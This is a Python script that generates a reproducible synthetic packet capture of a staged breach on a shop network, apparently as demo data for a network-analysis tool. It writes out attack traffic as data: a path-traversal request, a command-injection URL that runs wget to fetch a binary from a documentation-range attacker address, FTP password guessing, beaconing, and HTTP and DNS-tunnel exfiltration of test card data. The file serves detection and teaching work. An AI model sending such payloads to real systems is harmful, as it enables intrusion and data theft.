#!/usr/bin/env python3
"""Build ``captures/demo-breach.pcap``, the demo's breach, byte for byte the same on every run.

    make_demo_breach.py [--out FILE]   write the capture (default: captures/demo-breach.pcap)
    make_demo_breach.py --check        rebuild into a temporary file; exit 1 if the shipped one differs

A corner shop's network (192.168.1.0/24) on Tue 3 Nov 2026 from 09:00 UTC; outside addresses are
documentation ranges (203.0.113.0/24, 198.51.100.0/24), which Wiretrail counts as external:

  09:00  203.0.113.66 scans 100 ports of the shop server 192.168.1.20 (21, 22 and 80 open)
  09:01  ... guesses the FTP password of ``shopftp``: 8 failures, then a success
  09:04  ... exploits the shop's web application: /etc/passwd through a path traversal, then a
         command injection answered with ``uid=0(root)``
  09:05  the shop server downloads a tool (an ELF program) from 203.0.113.66
  09:06  the owner's PC 192.168.1.5 logs in to the shop server's FTP as ``admin`` in clear text
         (the attacker, root on that server, reads it)
  09:10  the shop server calls update-check.example.net (198.51.100.23) every 60 s, 40 times
  09:20  the shop server logs in to the file server 192.168.1.10 over SSH (the admin password reused)
  09:50  the shop server POSTs cards.csv (8 TEST card numbers, Luhn-valid, and e-mail addresses)
         to 198.51.100.23
  09:52  ... and sends data in 64 DNS queries with long random labels under t.exfil-example.net
  10:00  an insider: the office PC 192.168.1.30 sweeps 30 addresses on port 445, then reads 12
         files from the file server's ``accounts`` share over SMB2 as CORP\\alice

The building blocks (TCP with real sequence numbers, DNS messages, fixed noise) are those of
make_captures.py; SMB2 messages are built by hand below as in tests/core/apps/test_smb.py.
"""

from __future__ import annotations

import argparse
import calendar
import filecmp
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from make_captures import A, Capture, Host, TcpConn, at, dns_answer, dns_query, ipv4, noise, udp  # noqa: E402

C, S = "client", "server"
T0 = calendar.timegm((2026, 11, 3, 9, 0, 0))  # Tue 3 Nov 2026 09:00:00 UTC
ROUTER_MAC = "02:00:00:00:00:01"

RESOLVER = Host("192.168.1.1", ROUTER_MAC)
OWNER_PC = Host("192.168.1.5", "02:00:00:00:01:05", ttl=128)
FILES = Host("192.168.1.10", "02:00:00:00:01:10")
SHOP = Host("192.168.1.20", "02:00:00:00:01:20")
OFFICE = Host("192.168.1.30", "02:00:00:00:01:30", ttl=128)
ATTACKER = Host("203.0.113.66", ROUTER_MAC, ttl=52)
C2 = Host("198.51.100.23", ROUTER_MAC, ttl=49)
C2_NAME = "update-check.example.net"
TUNNEL = "t.exfil-example.net"
# Published test card numbers (they pass the Luhn check; no real card has them)
TEST_CARDS = ("4111111111111111", "5555555555554444", "378282246310005", "4012888888881881",
              "6011111111111117", "5105105105105100", "4242424242424242", "3530111333300000")


class Unordered(Capture):
    """A capture built stage by stage, whose stages overlap in time: sorted (stably) before writing."""

    def add(self, t_us: int, frame) -> None:
        self.frames.append((t_us, bytes(frame)))


class Demo:
    """The capture and counters that keep ports and sequence numbers distinct and fixed."""

    def __init__(self) -> None:
        self.cap = Unordered()
        self.port = 40000
        self.isn = 0x10000000
        self.txid = 0x4000

    def conn(self, t: float, client: Host, server: Host, sport: int, **kw) -> TcpConn:
        self.port += 1
        self.isn += 0x01000193
        return TcpConn(self.cap, at(T0 + t), client, self.port, server, sport, isn_c=self.isn,
                       isn_s=self.isn ^ 0x5A5A5A5A, **kw)

    def exchange(self, t: float, client: Host, server: Host, sport: int, turns: list[tuple[str, bytes]],
                 close_first: str = C) -> float:
        """Handshake, the turns (side, bytes) in order, close; returns the end time (seconds after T0)."""
        c = self.conn(t, client, server, sport)
        c.handshake()
        for side, data in turns:
            c.stream(side, data)
        c.close(close_first)
        return c.t / 1e6 - T0

    def dns(self, t: float, client: Host, name: str, addr: str) -> None:
        self.txid += 1
        self.port += 1
        udp(self.cap, at(T0 + t), client, self.port, RESOLVER, 53, dns_query(self.txid, name, A))
        udp(self.cap, at(T0 + t + 0.004), RESOLVER, 53, client, self.port, dns_answer(self.txid, name, A, ipv4(addr)))


def http_response(body: bytes, ctype: str = "text/html", status: str = "200 OK") -> bytes:
    return (f"HTTP/1.1 {status}\r\nServer: Apache/2.4.52 (Ubuntu)\r\nContent-Type: {ctype}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def http_get(path: str, host: str, agent: str = "Mozilla/5.0 (X11; Linux x86_64)") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n".encode()


# --- the breach, stage by stage -------------------------------------------------------------------

def recon(d: Demo, t: float) -> None:
    """SYNs to 100 ports; 21, 22 and 80 answer SYN-ACK (reset by the scanner), the rest RST."""
    open_ports = {21, 22, 80}
    ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 993, 995, 1433, 1521,
             2049, 3306, 3389, 5432, 5900, 5985, 6379, 8000, 8080, 8443, 8888, 9000, 9200, 11211, 27017, 10000,
             631, 873, 4444, 6667] + list(range(1000, 1060))  # 100 ports, as nmap's --top-ports 100 tries
    for i, port in enumerate(ports):
        c = d.conn(t + i * 0.02, ATTACKER, SHOP, port)
        c.send(C, "S")
        if port in open_ports:
            c.send(S, "SA")
            c.send(C, "R", ack=None)
        else:
            c.send(S, "RA", seq=0)


def ftp_session(d: Demo, t: float, client: Host, user: str, password: str, ok: bool) -> float:
    turns = [(S, b"220 (vsFTPd 3.0.5)\r\n"), (C, f"USER {user}\r\n".encode()),
             (S, b"331 Please specify the password.\r\n"), (C, f"PASS {password}\r\n".encode())]
    if ok:
        turns += [(S, b"230 Login successful.\r\n"), (C, b"SYST\r\n"), (S, b"215 UNIX Type: L8\r\n"),
                  (C, b"PWD\r\n"), (S, b'257 "/home/' + user.encode() + b'" is the current directory\r\n')]
    else:
        turns += [(S, b"530 Login incorrect.\r\n")]
    turns += [(C, b"QUIT\r\n"), (S, b"221 Goodbye.\r\n")]
    return d.exchange(t, client, SHOP, 21, turns, close_first=S)


def brute_force(d: Demo, t: float) -> float:
    for guess in ("123456", "password", "shop2026", "qwerty", "letmein", "shopftp", "admin123",
                  "welcome1"):
        t = ftp_session(d, t + 3.0, ATTACKER, "shopftp", guess, ok=False)
    return ftp_session(d, t + 3.0, ATTACKER, "shopftp", "Summer2026", ok=True)


def exploit(d: Demo, t: float) -> float:
    passwd = (b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
              b"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nshopftp:x:1001:1001::/home/shopftp:/bin/sh\n")
    t = d.exchange(t, ATTACKER, SHOP, 80, [(C, http_get("/index.php?page=../../../../etc/passwd", "192.168.1.20",
                                                        "python-requests/2.31")),
                                           (S, http_response(passwd, "text/plain"))])
    cmd = "/cgi-bin/status.cgi?host=127.0.0.1;id;wget%20http://203.0.113.66/tools/x86%20-O%20/tmp/.x"
    return d.exchange(t + 20, ATTACKER, SHOP, 80, [(C, http_get(cmd, "192.168.1.20", "python-requests/2.31")),
                                                   (S, http_response(b"PING 127.0.0.1 ok\nuid=0(root) gid=0(root) "
                                                                     b"groups=0(root)\n", "text/plain"))])


def tool_download(d: Demo, t: float) -> float:
    elf = (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
           + noise("demo-breach-tool", 16_000))
    return d.exchange(t, SHOP, ATTACKER, 80, [(C, http_get("/tools/x86", "203.0.113.66", "Wget/1.21.2")),
                                              (S, http_response(elf, "application/octet-stream"))])


def beacons(d: Demo, t: float, n: int = 40) -> float:
    d.dns(t - 1, SHOP, C2_NAME, C2.ip)
    for i in range(n):
        jitter = (i * 7 % 5) * 0.1  # 0 to 0.4 s
        d.exchange(t + i * 60 + jitter, SHOP, C2, 80,
                   [(C, http_get("/api/v1/checkin?id=7f3a9c", C2_NAME, "curl/7.81.0")),
                    (S, http_response(b'{"cmd":"sleep","interval":60}', "application/json"))])
    return t + n * 60


def lateral_ssh(d: Demo, t: float) -> float:
    """The shop server logs in to the file server over SSH: banners, key exchange, an encrypted session."""
    c = d.conn(t, SHOP, FILES, 22)
    c.handshake()
    c.stream(S, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
    c.stream(C, b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n")
    c.stream(C, noise("ssh-kex-c", 1_480))
    c.stream(S, noise("ssh-kex-s", 1_112))
    for i in range(12):  # login, then commands and their output (encrypted)
        c.stream(C, noise(f"ssh-c-{i}", 96), ack_every=1)
        c.stream(S, noise(f"ssh-s-{i}", 640 + 64 * i))
    c.close()
    return c.t / 1e6 - T0


def cards_csv() -> bytes:
    rows = ["name,email,card,expiry"]
    for i, card in enumerate(TEST_CARDS, 1):
        rows.append(f"Customer {i:03d},customer{i:03d}@example.com,{card},0{i % 9 + 1}/28")
    for i in range(9, 41):  # newsletter subscribers: e-mail addresses only
        rows.append(f"Customer {i:03d},customer{i:03d}@example.com,,")
    return ("\n".join(rows) + "\n").encode()


def exfil_http(d: Demo, t: float) -> float:
    body = cards_csv()
    boundary = "----wt7f3a9c"
    form = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cards.csv\"\r\n"
            f"Content-Type: text/csv\r\n\r\n").encode() + body + f"\r\n--{boundary}--\r\n".encode()
    req = (f"POST /api/v1/upload HTTP/1.1\r\nHost: {C2_NAME}\r\nUser-Agent: curl/7.81.0\r\n"
           f"Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {len(form)}\r\n\r\n").encode()
    return d.exchange(t, SHOP, C2, 80, [(C, req + form), (S, http_response(b'{"ok":true}', "application/json"))])


def exfil_dns(d: Demo, t: float, n: int = 64) -> float:
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    for i in range(n):
        label = "".join(alphabet[b % 32] for b in noise(f"dns-tunnel-{i}", 48))
        d.dns(t + i * 0.5, SHOP, f"{label}.{i:02x}.{TUNNEL}", "10.9.8.7")
    return t + n * 0.5


# --- the insider: a host sweep, then a share copied over SMB2 --------------------------------------

def _smb_hdr(cmd: int, mid: int, *, response: bool = False, tree: int = 0) -> bytes:
    return (b"\xfeSMB" + (64).to_bytes(2, "little") + b"\x00\x00" + b"\x00" * 4 + cmd.to_bytes(2, "little")
            + b"\x01\x00" + (1 if response else 0).to_bytes(4, "little") + b"\x00" * 4 + mid.to_bytes(8, "little")
            + b"\x00" * 4 + tree.to_bytes(4, "little") + (0x4455).to_bytes(8, "little") + b"\x00" * 16)


def _nb(message: bytes) -> bytes:
    return len(message).to_bytes(4, "big") + message


def _ntlm_authenticate(domain: str, user: str) -> bytes:
    d, u, w = domain.encode("utf-16-le"), user.encode("utf-16-le"), "OFFICE-PC".encode("utf-16-le")
    fields, payload, off = b"", b"", 72
    for blob in (b"", b"", d, u, w):  # LM and NT responses (left empty here), domain, user, workstation
        fields += len(blob).to_bytes(2, "little") * 2 + (off + len(payload)).to_bytes(4, "little")
        payload += blob
    fields += b"\x00" * 8
    return b"NTLMSSP\x00" + (3).to_bytes(4, "little") + fields + (1).to_bytes(4, "little") + b"\x00" * 8 + payload


def _ok(cmd: int, mid: int) -> bytes:
    return _smb_hdr(cmd, mid, response=True) + (9).to_bytes(2, "little") + b"\x00" * 7


def smb_copy(d: Demo, t: float) -> float:
    c = d.conn(t, OFFICE, FILES, 445)
    c.handshake()
    blob = b"\x60\x48" + _ntlm_authenticate("CORP", "alice")
    setup = _smb_hdr(1, 1) + (25).to_bytes(2, "little") + b"\x00\x01" + b"\x00" * 8 + (88).to_bytes(2, "little") \
        + len(blob).to_bytes(2, "little") + b"\x00" * 8 + blob
    c.stream(C, _nb(setup))
    c.stream(S, _nb(_ok(1, 1)))
    share = "\\\\files\\accounts".encode("utf-16-le")
    c.stream(C, _nb(_smb_hdr(3, 2) + (9).to_bytes(2, "little") + b"\x00\x00" + (72).to_bytes(2, "little")
                    + len(share).to_bytes(2, "little") + share))
    c.stream(S, _nb(_smb_hdr(3, 2, response=True, tree=7) + (16).to_bytes(2, "little") + b"\x01\x00" + b"\x00" * 12))
    mid = 3
    for i in range(12):
        name = "customers.csv" if i == 0 else f"invoices\\2026-{i:02d}.pdf"
        data = cards_csv() if i == 0 else b"%PDF-1.4\n" + noise(f"invoice-{i}", 6_000)
        fid = bytes([0x10 + i]) * 16
        n = name.encode("utf-16-le")
        c.stream(C, _nb(_smb_hdr(5, mid, tree=7) + (57).to_bytes(2, "little") + b"\x00" * 42
                        + (120).to_bytes(2, "little") + len(n).to_bytes(2, "little") + b"\x00" * 8 + n))
        c.stream(S, _nb(_smb_hdr(5, mid, response=True) + (89).to_bytes(2, "little") + b"\x00" * 6 + b"\x00" * 32
                        + b"\x00" * 8 + len(data).to_bytes(8, "little") + b"\x00" * 8 + fid + b"\x00" * 8))
        c.stream(C, _nb(_smb_hdr(8, mid + 1, tree=7) + (49).to_bytes(2, "little") + b"\x00\x00"
                        + len(data).to_bytes(4, "little") + (0).to_bytes(8, "little") + fid + b"\x00" * 17))
        c.stream(S, _nb(_smb_hdr(8, mid + 1, response=True) + (17).to_bytes(2, "little") + bytes([80, 0])
                        + len(data).to_bytes(4, "little") + b"\x00" * 8 + data))
        c.stream(C, _nb(_smb_hdr(6, mid + 2, tree=7) + (24).to_bytes(2, "little") + b"\x00" * 6 + fid))
        c.stream(S, _nb(_ok(6, mid + 2)))
        mid += 3
    c.close()
    return c.t / 1e6 - T0


def insider(d: Demo, t: float) -> float:
    for i in range(30):  # SYNs to port 445 of 192.168.1.100-129, unanswered
        c = d.conn(t + i * 0.2, OFFICE, Host(f"192.168.1.{100 + i}", "02:00:00:00:02:00"), 445)
        c.send(C, "S")
    return smb_copy(d, t + 60)


def background(d: Demo, t: float) -> None:
    """Ordinary office traffic around the breach: look-ups and a web page."""
    for i, (client, name, addr) in enumerate(((OFFICE, "www.example.com", "93.184.215.14"),
                                               (OWNER_PC, "mail.example.org", "192.0.2.25"),
                                               (OFFICE, "www.example.com", "93.184.215.14"))):
        d.dns(t + i * 900, client, name, addr)
    web = Host("93.184.215.14", ROUTER_MAC, ttl=55)
    d.exchange(t + 1, OFFICE, web, 80, [(C, http_get("/", "www.example.com")),
                                        (S, http_response(b"<html><body>Example Domain</body></html>"))])


def demo_breach() -> Capture:
    d = Demo()
    background(d, 5)
    recon(d, 0)
    t = brute_force(d, 60)
    t = exploit(d, 240)
    tool_download(d, t + 40)
    ftp_session(d, 360, OWNER_PC, "admin", "Sh0pAdm1n!", ok=True)
    lateral_ssh(d, 1200)
    # The beacons run 09:10-09:50 between the stages above and below: frames must be in time
    # order, so everything is built first and sorted by time before writing.
    beacons(d, 600)
    exfil_http(d, 3000)
    exfil_dns(d, 3120)
    insider(d, 3600)
    d.cap.frames.sort(key=lambda f: f[0])
    return d.cap


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", type=Path, default=HERE / "demo-breach.pcap")
    ap.add_argument("--check", action="store_true", help="exit 1 if the shipped capture differs from a rebuild")
    args = ap.parse_args(argv)
    if args.check:
        with tempfile.TemporaryDirectory() as tmp:
            fresh = Path(tmp) / "demo-breach.pcap"
            demo_breach().write(fresh)
            if not filecmp.cmp(fresh, HERE / "demo-breach.pcap", shallow=False):
                print("captures/demo-breach.pcap differs from what make_demo_breach.py builds", file=sys.stderr)
                return 1
        print("captures/demo-breach.pcap: as built", file=sys.stderr)
        return 0
    demo_breach().write(args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
